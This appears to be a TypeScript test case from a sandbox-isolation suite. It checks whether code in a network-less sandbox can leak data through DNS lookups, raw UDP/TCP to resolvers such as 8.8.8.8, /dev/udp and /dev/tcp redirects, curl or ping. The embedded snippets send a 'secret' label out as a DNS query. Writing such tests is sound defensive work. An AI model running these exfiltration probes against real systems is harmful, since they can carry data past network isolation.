// If this worked: a program without a network would send what it read to a stranger, as names to look up.
import type { Attack } from '../attack.ts';
import type { Field } from '../field.ts';
import { waitFor } from '../wait-for.ts';

export const attack: Attack = {
  programs: [
    {
      language: 'python',
      control: 'A machine of tests may have no resolver to ask; the effects on the listeners are what counts',
      code: (field) => `
import time
def datagram(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.3)
    s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x06secret\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01', (host, port))
    return s.recv(512)
def stream(host, port):
    s = socket.create_connection((host, port), 1)
    return s.getpeername()
servers = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')] if os.path.exists('/etc/resolv.conf') else []
for server in {*servers, '127.0.0.1', '127.0.0.53', '8.8.8.8', '1.1.1.1'}:
    attempt('udp ' + server, lambda: datagram(server, 53))
    attempt('tcp ' + server, lambda: stream(server, 53))
    attempt('tls ' + server, lambda: stream(server, 853))
    attempt('https ' + server, lambda: stream(server, 443))
attempt('the listener', lambda: datagram('127.0.0.1', ${field.port}))
for name in ('example.com', 'secret.example.com', 'localhost.localdomain.example.org'):
    attempt('look up ' + name, lambda: socket.getaddrinfo(name, 80))
    attempt('old look up ' + name, lambda: socket.gethostbyname(name))
`,
    },
    {
      language: 'javascript',
      control: 'A machine of tests may have no resolver to ask; the effects on the listeners are what counts',
      code: (field) => `
const dns = require('node:dns/promises');
await attempt('lookup', () => dns.lookup('example.com'));
await attempt('resolve', () => { const r = new dns.Resolver({ timeout: 300, tries: 1 }); r.setServers(['127.0.0.1:${field.port}']); return r.resolve4('secret.example.com'); });
await attempt('fetch', () => fetch('https://example.com', { signal: AbortSignal.timeout(2000) }));
`,
    },
    {
      language: 'bash',
      byEffect: true,
      control: 'A machine of tests may have no resolver to ask; the effects on the listeners are what counts',
      code: (field) => `
attempt 'getent' 'getent hosts example.com'
attempt 'udp' 'exec 5<>/dev/udp/8.8.8.8/53 && echo x >&5'
attempt 'tcp' 'exec 5<>/dev/tcp/127.0.0.1/${field.port}'
attempt 'curl' 'curl -s --max-time 2 https://example.com'
attempt 'ping' 'ping -c 1 -W 1 1.1.1.1'
`,
    },
  ],
  checks: [
    {
      name: 'no datagram reaches the host',
      holds: async (field) => {
        await field.run({ session: 'attacker', language: 'python', code: sendTo(field) });
        await field.run({ session: 'datagrams', language: 'javascript', code: sendFromJavaScript(field) });
        await new Promise((resolve) => setTimeout(resolve, 50));
      },
      control: async (field) => {
        await field.outside('python', sendTo(field));
        await waitFor(async () => (await field.takeEffects()).includes('a datagram reached the host'));
      },
    },
  ],
};

function sendTo({ hostAddresses, port }: Field): string {
  return `import socket
for address in ${JSON.stringify(hostAddresses)}:
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (address, ${port}))
    except Exception as error:
        print(type(error).__name__)`;
}

function sendFromJavaScript({ hostAddresses, port }: Field): string {
  return `const socket = require('node:dgram').createSocket('udp4').on('error', () => {});
for (const address of ${JSON.stringify(hostAddresses)}) socket.send('secret', ${port}, address);
await new Promise((resolve) => setTimeout(resolve, 100));
socket.close();`;
}
